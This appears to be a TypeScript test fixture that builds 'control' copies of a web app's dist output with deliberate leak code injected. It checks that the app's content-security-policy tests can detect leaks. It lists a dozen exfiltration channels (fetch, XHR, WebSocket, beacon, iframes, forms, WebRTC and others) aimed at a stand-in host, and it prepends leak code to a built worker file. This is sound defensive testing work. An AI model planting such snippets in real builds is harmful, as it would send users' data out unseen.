// Control builds: the real build with a leak put into it, so that a test which sees nothing is known to be able to see.
// They are made of links to dist/ in a temporary folder; no such code exists under src/.

import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DIST } from '../app.ts';

/** A host that the sinks answer for. */
const ELSEWHERE = 'elsewhere.example';

/** Notes each refusal of the policy in the page and, from the worker, through a channel. */
const NOTE_REFUSALS = `
window.refused = [];
addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
new BroadcastChannel('refused').onmessage = ({ data }) => window.refused.push(data);
`;
const TELL_REFUSALS = `
addEventListener('securitypolicyviolation', (event) => new BroadcastChannel('refused').postMessage(event.effectiveDirective));
`;

/** What each channel does in the page; `?leak=CHANNEL` in its address starts it. */
const IN_THE_PAGE: Record<string, string> = {
  fetch: `fetch('http://${ELSEWHERE}/leak?fetch', { mode: 'no-cors' })`,
  XHR: `const request = new XMLHttpRequest(); request.open('POST', 'http://${ELSEWHERE}/leak?xhr'); request.send('data')`,
  WebSocket: `new WebSocket('ws://${ELSEWHERE}/leak?socket')`,
  EventSource: `new EventSource('http://${ELSEWHERE}/leak?events')`,
  sendBeacon: `navigator.sendBeacon('http://${ELSEWHERE}/leak?beacon', 'data')`,
  image: `new Image().src = 'http://${ELSEWHERE}/leak?image'`,
  'dynamic import': `import('http://${ELSEWHERE}/leak?import')`,
  'style sheet': `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://${ELSEWHERE}/leak?style' }))`,
  font: `new FontFace('leak', 'url(http://${ELSEWHERE}/leak?font)').load()`,
  frame: `addEventListener('load', () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://${ELSEWHERE}/leak?frame' })))`,
  form: `addEventListener('load', () => { const form = Object.assign(document.createElement('form'), { action: 'http://${ELSEWHERE}/leak?form', method: 'post' }); document.body.append(form); form.submit(); })`,
};

/** Where the policy stops the request, and Chromium has opened a connection by then on which it says nothing. */
export const OPENS_A_CONNECTION = ['frame', 'form'];

/** What each channel does in the engine's worker, where it starts by itself. */
const IN_THE_WORKER: Record<string, string> = {
  'worker fetch': `fetch('http://${ELSEWHERE}/leak?worker', { mode: 'no-cors' })`,
  'nested worker fetch': `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(
    `${TELL_REFUSALS}fetch('http://${ELSEWHERE}/leak?nested', { mode: 'no-cors' })`,
  )}])))`,
};

/** What no policy stops: the build must have none of it. `PORT` is the sinks' port for datagrams. */
const PAST_THE_POLICY: Record<string, string> = {
  'window.open': `addEventListener('click', () => window.open('http://${ELSEWHERE}/leak?open'))`,
  WebRTC: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] }); peer.createDataChannel('leak'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
};

export const CHANNELS = {
  page: Object.keys(IN_THE_PAGE),
  worker: Object.keys(IN_THE_WORKER),
  unstoppable: Object.keys(PAST_THE_POLICY),
};

export interface ControlBuild {
  folder: string;
  remove(): void;
}

/**
 * @param policy whether the build keeps its content security policy
 * @param workerLeak the channel that the engine's worker leaks through, if any
 */
export function makeControlBuild(policy: boolean, udpPort: number, workerLeak?: string): ControlBuild {
  const folder = mkdtempSync(join(tmpdir(), 'lathe-control-'));
  mkdirSync(join(folder, 'assets'));
  const files = readdirSync(DIST, { recursive: true, withFileTypes: true });
  for (const { parentPath, name } of files.filter((file) => file.isFile())) {
    const path = join(parentPath, name).slice(DIST.length + 1);
    mkdirSync(join(folder, path, '..'), { recursive: true });
    if (path === 'index.html') continue;
    if (workerLeak && /^assets.engine-[\w-]+\.js$/.test(path)) {
      const leak = `${TELL_REFUSALS}${IN_THE_WORKER[workerLeak]};`;
      writeFileSync(join(folder, path), `${leak}\n${readFileSync(join(DIST, path), 'utf8')}`);
    } else symlinkSync(join(DIST, path), join(folder, path));
  }
  const leaks = Object.entries({ ...IN_THE_PAGE, ...PAST_THE_POLICY }).map(
    ([channel, code]) => `  if (leak === '${channel}') { ${code.replace('PORT', String(udpPort))}; }`,
  );
  const script = `${NOTE_REFUSALS}const leak = new URLSearchParams(location.search).get('leak');\n${leaks.join('\n')}\n`;
  writeFileSync(join(folder, 'leak.js'), script);
  let html = readFileSync(join(DIST, 'index.html'), 'utf8');
  if (!policy) html = html.replace(/<meta\s+http-equiv="Content-Security-Policy"[^>]*>/, '');
  if (/Content-Security-Policy/.test(html) !== policy) throw new Error('index.html has no policy as it was looked for');
  writeFileSync(
    join(folder, 'index.html'),
    html.replace(/<script type="module"/, '<script type="module" src="./leak.js"></script>\n    $&'),
  );
  return { folder, remove: () => rmSync(folder, { recursive: true, force: true }) };
}
